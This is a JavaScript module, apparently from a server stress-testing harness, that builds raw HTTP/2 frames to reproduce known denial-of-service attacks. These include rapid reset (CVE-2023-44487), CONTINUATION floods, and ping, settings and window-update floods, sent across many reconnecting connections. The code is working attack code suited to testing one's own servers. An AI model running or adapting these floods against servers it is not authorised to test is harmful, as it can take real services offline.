// HTTP/2 used against its server (RFC 9113 section 10.5; CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316).
import { constants } from 'node:http2';
import { writableAgain } from './lib/clients.mjs';

const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])]);

function frame(type, flags, id, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

/** Frames by hand over some connections, each opened again when the server has closed it. */
const frames =
  (make, connections = 4) =>
  async (target) => {
    const until = performance.now() + target.seconds * 1000;
    await Promise.all(
      Array.from({ length: connections }, async () => {
        while (performance.now() < until) {
          const socket = await target.clients.openTls({ protocol: 'h2' });
          socket.on('data', () => {});
          socket.write(preface);
          for (let at = 0; performance.now() < until && !socket.destroyed && socket.writable; at++) {
            if (!socket.write(make(at))) await writableAgain(socket);
            else await new Promise(setImmediate);
          }
          socket.destroy();
          await pause(10);
        }
      }),
    );
  };

// HPACK: :method GET, :scheme https, :path /, and :authority x as a literal that is not indexed.
const get = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x78]);
const many = (count, each) => Buffer.concat(Array.from({ length: count }, (_, at) => each(at)));

const takenBack = (count) => (round) =>
  many(count, (at) => {
    const id = 2 * (round * count + at) + 1;
    return Buffer.concat([frame(1, 5, id, get), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
  });

export default [
  { name: 'HTTP/2 rapid reset', run: frames(takenBack(100)) },
  { name: 'HTTP/2 rapid reset, 64 connections', run: frames(takenBack(900), 64) },
  { name: 'HTTP/2 pings', run: frames(() => many(1000, () => frame(6, 0, 0, Buffer.alloc(8)))) },
  { name: 'HTTP/2 settings', run: frames(() => many(1000, () => frame(4, 0, 0))) },
  { name: 'HTTP/2 empty DATA', run: frames((at) => (at === 0 ? frame(1, 4, 1, get) : many(1000, () => frame(0, 0, 1)))) },
  {
    name: 'HTTP/2 CONTINUATION without end',
    run: frames((at) =>
      at === 0 ? frame(1, 0, 1, get) : many(100, () => frame(9, 0, 1, Buffer.from([0x00, 1, 0x61, 1, 0x62]))),
    ),
  },
  { name: 'HTTP/2 window updates', run: frames(() => many(1000, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1])))) },
  {
    name: 'HTTP/2 streams opened and left',
    async run(target) {
      const until = performance.now() + target.seconds * 1000;
      while (performance.now() < until) {
        const session = await target.clients.openHttp2();
        const headers = { ':method': 'GET', ':path': '/api', authorization: `Bearer ${target.token}` };
        for (let at = 0; at < 200; at++) target.clients.stream(session, headers)?.close(constants.NGHTTP2_CANCEL);
        await pause(20);
        session.destroy();
      }
    },
  },
];
